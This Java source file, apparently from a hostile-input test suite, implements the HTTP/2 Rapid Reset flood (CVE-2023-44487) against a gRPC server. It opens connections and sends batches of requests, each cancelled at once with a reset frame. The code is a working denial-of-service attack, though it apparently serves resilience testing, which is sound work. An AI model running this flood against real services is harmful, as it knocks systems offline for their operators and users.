package io.troupe.tests.hostile;

import io.troupe.tests.malformed.Http2Bytes;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.SocketException;

/**
 * Streams that send a complete request and are reset immediately (CVE-2023-44487), over as many
 * connections as needed.
 */
final class ResetFlood implements Attack {
  private static final byte[] CANCEL = {0, 0, 0, 8};
  private static final int AT_ONCE = 100;
  private static final int MAX_REFUSED = 1000;

  private final String path;
  private final byte[] message;
  private final int resets;
  private int connections;

  /**
   * An attack.
   *
   * @param path of the gRPC method
   * @param message of each request
   * @param resets how many streams
   */
  ResetFlood(String path, byte[] message, int resets) {
    this.path = path;
    this.message = message;
    this.resets = resets;
  }

  @Override
  public Held on(Target target) throws IOException {
    int refused = 0;
    for (int sent = 0; sent < resets && refused < MAX_REFUSED; connections++) {
      try (RawConnection connection = RawConnection.wide(target)) {
        sent += overOne(connection, resets - sent);
      } catch (SocketException closed) {
        // The member refuses this connection.
        refused++;
      }
    }
    return Held.NOTHING;
  }

  private int overOne(RawConnection connection, int most) throws IOException {
    int sent = 0;
    try {
      while (sent < most) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (int i = 0; i < AT_ONCE; i++) {
          int stream = connection.nextStream();
          out.writeBytes(RawConnection.request(stream, path, message));
          out.writeBytes(Http2Bytes.frame(Http2Bytes.RST_STREAM, 0, stream, CANCEL));
        }
        connection.write(out.toByteArray());
        sent += AT_ONCE;
        while (connection.hasMore()) {
          if (connection.read().isEmpty()) {
            return sent;
          }
        }
      }
      connection.frame(Http2Bytes.PING, 0, 0, new byte[8]);
      // The acknowledgement of the ping follows the processing of all requests.
      while (connection
          .read()
          .filter(frame -> frame.type() != Http2Bytes.PING || (frame.flags() & 1) == 0)
          .isPresent()) {
        // Responses of the streams.
      }
    } catch (SocketException closed) {
      // The member accepts no more on this connection.
    }
    return sent;
  }

  /** The number of connections. */
  int connections() {
    return connections;
  }
}
